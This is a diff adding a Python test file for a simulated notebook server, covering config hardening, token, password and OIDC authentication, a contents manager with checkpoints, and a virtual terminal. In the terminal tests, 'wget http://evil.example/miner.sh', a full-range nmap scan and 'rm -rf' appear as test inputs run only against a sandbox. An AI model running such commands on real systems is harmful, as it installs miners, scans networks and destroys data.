@@ -1,0 +1,289 @@
+"""Tests for server config, auth, contents manager, and terminal."""
+
+import pytest
+
+from repro.crypto.passwords import hash_password
+from repro.nbformat import Notebook
+from repro.server.auth import Authenticator, OIDCProviderSim
+from repro.server.config import ServerConfig, insecure_demo_config
+from repro.server.contents import ContentsError, ContentsManager
+from repro.server.terminal import TerminalManager
+from repro.util.clock import SimClock
+from repro.vfs import VirtualFS
+
+
+class TestServerConfig:
+    def test_defaults_are_safe(self):
+        cfg = ServerConfig()
+        assert cfg.auth_enabled
+        assert not cfg.publicly_bound
+        assert cfg.known_cves() == []
+
+    def test_insecure_demo_is_terrible(self):
+        cfg = insecure_demo_config()
+        assert not cfg.auth_enabled
+        assert cfg.publicly_bound
+        assert cfg.allow_origin == "*"
+        assert cfg.known_cves()
+
+    def test_tls_requires_both_files(self):
+        assert not ServerConfig(certfile="a").tls_enabled
+        assert ServerConfig(certfile="a", keyfile="b").tls_enabled
+
+    def test_hardened_copy_fixes_everything(self):
+        hardened = insecure_demo_config().hardened_copy()
+        assert hardened.auth_enabled
+        assert not hardened.publicly_bound
+        assert hardened.tls_enabled
+        assert hardened.allow_origin != "*"
+        assert hardened.known_cves() == []
+        assert hardened.rate_limit_max_requests > 0
+
+
+class TestAuthenticator:
+    def test_valid_token(self):
+        cfg = ServerConfig(token="s3cret")
+        auth = Authenticator(cfg)
+        assert auth.authenticate(token="s3cret").ok
+
+    def test_invalid_token(self):
+        auth = Authenticator(ServerConfig(token="s3cret"))
+        result = auth.authenticate(token="wrong", source_ip="1.2.3.4")
+        assert not result.ok
+        assert auth.failures_from("1.2.3.4") == 1
+
+    def test_password_auth(self):
+        cfg = ServerConfig(token="", password_hash=hash_password("pw", rounds=100))
+        auth = Authenticator(cfg)
+        assert auth.authenticate(password="pw").ok
+        assert not auth.authenticate(password="nope").ok
+
+    def test_open_access_when_no_auth(self):
+        auth = Authenticator(insecure_demo_config())
+        result = auth.authenticate()
+        assert result.ok and result.method == "open"
+
+    def test_no_credentials_rejected(self):
+        assert not Authenticator(ServerConfig(token="t")).authenticate().ok
+
+    def test_oidc_roundtrip(self):
+        clock = SimClock()
+        cfg = ServerConfig(token="t")
+        auth = Authenticator(cfg, clock)
+        idp = OIDCProviderSim("https://cilogon.example", b"idp-key", clock)
+        auth.register_oidc(idp)
+        assertion = idp.issue("alice@ncsa")
+        result = auth.authenticate(oidc_assertion=assertion)
+        assert result.ok and result.username == "alice@ncsa"
+
+    def test_oidc_forgery_rejected(self):
+        clock = SimClock()
+        auth = Authenticator(ServerConfig(token="t"), clock)
+        idp = OIDCProviderSim("https://cilogon.example", b"idp-key", clock)
+        auth.register_oidc(idp)
+        forged = OIDCProviderSim("https://cilogon.example", b"attacker-key", clock).issue("root")
+        assert not auth.authenticate(oidc_assertion=forged).ok
+
+    def test_oidc_expired_rejected(self):
+        clock = SimClock()
+        auth = Authenticator(ServerConfig(token="t"), clock)
+        idp = OIDCProviderSim("https://idp", b"k", clock)
+        auth.register_oidc(idp)
+        assertion = idp.issue("bob", ttl=10)
+        clock.advance(11)
+        assert not auth.authenticate(oidc_assertion=assertion).ok
+
+    def test_oidc_unknown_issuer(self):
+        auth = Authenticator(ServerConfig(token="t"))
+        idp = OIDCProviderSim("https://rogue", b"k")
+        assert not auth.authenticate(oidc_assertion=idp.issue("x")).ok
+
+    def test_failure_rate(self):
+        clock = SimClock()
+        auth = Authenticator(ServerConfig(token="t"), clock)
+        for _ in range(30):
+            auth.authenticate(token="bad", source_ip="6.6.6.6")
+            clock.advance(1)
+        assert auth.failure_rate(window=30) == pytest.approx(1.0)
+
+
+def make_contents():
+    fs = VirtualFS(SimClock())
+    cm = ContentsManager(fs)
+    return cm, fs
+
+
+class TestContentsManager:
+    def test_save_get_file(self):
+        cm, _ = make_contents()
+        cm.save("notes.txt", {"type": "file", "content": "hello"})
+        model = cm.get("notes.txt")
+        assert model["type"] == "file"
+        assert model["content"] == "hello"
+        assert model["size"] == 5
+
+    def test_save_get_notebook(self):
+        cm, _ = make_contents()
+        nb = Notebook.new()
+        nb.add_code("print(1)")
+        cm.save("analysis.ipynb", {"type": "notebook", "content": nb.to_dict()})
+        model = cm.get("analysis.ipynb")
+        assert model["type"] == "notebook"
+        assert model["content"]["cells"][0]["source"] == "print(1)"
+
+    def test_invalid_notebook_rejected(self):
+        cm, _ = make_contents()
+        with pytest.raises(ContentsError, match="invalid notebook"):
+            cm.save("bad.ipynb", {"type": "notebook", "content": {"cells": "nope"}})
+
+    def test_base64_roundtrip(self):
+        cm, _ = make_contents()
+        cm.save("w.bin", {"type": "file", "format": "base64", "content": "AAEC"})
+        model = cm.get("w.bin")
+        assert model["format"] == "base64"
+        assert model["content"] == "AAEC"
+
+    def test_invalid_base64_rejected(self):
+        cm, _ = make_contents()
+        with pytest.raises(ContentsError, match="base64"):
+            cm.save("w.bin", {"type": "file", "format": "base64", "content": "!!!"})
+
+    def test_directory_listing_hides_checkpoints(self):
+        cm, _ = make_contents()
+        cm.save("a.txt", {"type": "file", "content": "x"})
+        cm.create_checkpoint("a.txt")
+        listing = cm.get("")
+        names = [e["name"] for e in listing["content"]]
+        assert names == ["a.txt"]
+
+    def test_get_missing_404(self):
+        cm, _ = make_contents()
+        with pytest.raises(ContentsError) as e:
+            cm.get("ghost.txt")
+        assert e.value.status == 404
+
+    def test_delete_and_rename(self):
+        cm, _ = make_contents()
+        cm.save("a.txt", {"type": "file", "content": "1"})
+        cm.rename("a.txt", "b.txt")
+        assert cm.get("b.txt")["content"] == "1"
+        cm.delete("b.txt")
+        with pytest.raises(ContentsError):
+            cm.get("b.txt")
+
+    def test_mkdir_via_save(self):
+        cm, _ = make_contents()
+        cm.save("proj", {"type": "directory"})
+        assert cm.get("proj")["type"] == "directory"
+
+    def test_checkpoint_restore_cycle(self):
+        cm, _ = make_contents()
+        cm.save("nb.txt", {"type": "file", "content": "original"})
+        cm.create_checkpoint("nb.txt")
+        cm.save("nb.txt", {"type": "file", "content": "ENCRYPTED"})
+        cm.restore_checkpoint("nb.txt")
+        assert cm.get("nb.txt")["content"] == "original"
+
+    def test_list_checkpoints(self):
+        cm, _ = make_contents()
+        cm.save("nb.txt", {"type": "file", "content": "v1"})
+        cm.create_checkpoint("nb.txt", "0")
+        cm.create_checkpoint("nb.txt", "1")
+        assert [c["id"] for c in cm.list_checkpoints("nb.txt")] == ["0", "1"]
+
+    def test_delete_checkpoint(self):
+        cm, _ = make_contents()
+        cm.save("nb.txt", {"type": "file", "content": "v1"})
+        cm.create_checkpoint("nb.txt")
+        cm.delete_checkpoint("nb.txt", "0")
+        assert cm.list_checkpoints("nb.txt") == []
+
+    def test_restore_missing_checkpoint_404(self):
+        cm, _ = make_contents()
+        cm.save("nb.txt", {"type": "file", "content": "v1"})
+        with pytest.raises(ContentsError):
+            cm.restore_checkpoint("nb.txt", "9")
+
+    def test_notebook_helpers(self):
+        cm, _ = make_contents()
+        nb = Notebook.new()
+        nb.add_code("x = 1")
+        cm.save_notebook("n.ipynb", nb)
+        nb2 = cm.get_notebook("n.ipynb")
+        assert nb2.code_cells[0].source == "x = 1"
+
+    def test_get_notebook_on_file_rejected(self):
+        cm, _ = make_contents()
+        cm.save("a.txt", {"type": "file", "content": "x"})
+        with pytest.raises(ContentsError, match="not a notebook"):
+            cm.get_notebook("a.txt")
+
+
+class TestTerminal:
+    def make(self):
+        fs = VirtualFS(SimClock())
+        fs.write("home/data.csv", b"1,2,3")
+        fs.write("home/proj/model.pt", b"weights")
+        tm = TerminalManager(fs)
+        return tm.create(), fs, tm
+
+    def test_ls_pwd_cd(self):
+        term, _, _ = self.make()
+        assert term.run("ls")[1] == "data.csv\nproj"
+        assert term.run("pwd")[1] == "/home"
+        assert term.run("cd proj")[0] == 0
+        assert term.run("ls")[1] == "model.pt"
+
+    def test_cat(self):
+        term, _, _ = self.make()
+        assert term.run("cat data.csv") == (0, "1,2,3")
+
+    def test_unknown_command_127(self):
+        term, _, _ = self.make()
+        code, out = term.run("nmap -p- 10.0.0.0/8")
+        assert code == 127 and "command not found" in out
+
+    def test_rm_recursive(self):
+        term, fs, _ = self.make()
+        assert term.run("rm -rf proj")[0] == 0
+        assert not fs.is_file("home/proj/model.pt")
+
+    def test_mv_echo_mkdir(self):
+        term, fs, _ = self.make()
+        term.run("mkdir staging")
+        term.run("mv data.csv staging/data.csv")
+        assert fs.is_file("home/staging/data.csv")
+        assert term.run("echo hello world")[1] == "hello world"
+
+    def test_wget_fails_but_recorded(self):
+        term, _, _ = self.make()
+        code, out = term.run("wget http://evil.example/miner.sh")
+        assert code != 0
+        assert term.history[-1].command.startswith("wget")
+
+    def test_history_and_listeners(self):
+        term, _, _ = self.make()
+        seen = []
+        term.listeners.append(lambda rec: seen.append(rec.command))
+        term.run("whoami")
+        term.run("uname")
+        assert seen == ["whoami", "uname"]
+        assert "whoami" in term.run("history")[1]
+
+    def test_manager_lifecycle(self):
+        _, _, tm = self.make()
+        t2 = tm.create()
+        assert tm.list_names() == ["1", "2"]
+        assert tm.get("2") is t2
+        assert tm.delete("1")
+        assert not tm.delete("1")
+        t2.run("pwd")
+        assert len(tm.all_commands()) == 1
+
+    def test_cd_missing_dir(self):
+        term, _, _ = self.make()
+        assert term.run("cd /nonexistent")[0] == 1
+
+    def test_parse_error(self):
+        term, _, _ = self.make()
+        assert term.run("echo 'unterminated")[0] == 2
